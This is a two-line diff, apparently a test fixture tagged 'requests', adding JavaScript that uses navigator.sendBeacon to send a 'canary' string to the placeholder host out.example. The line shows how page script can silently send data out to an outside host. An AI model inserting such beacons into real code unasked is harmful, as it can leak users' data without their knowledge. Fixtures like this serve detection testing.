@@ -1,0 +1,2 @@
+/* {"family": "requests"} */
+navigator.sendBeacon('https://out.example/beacon', 'canary');
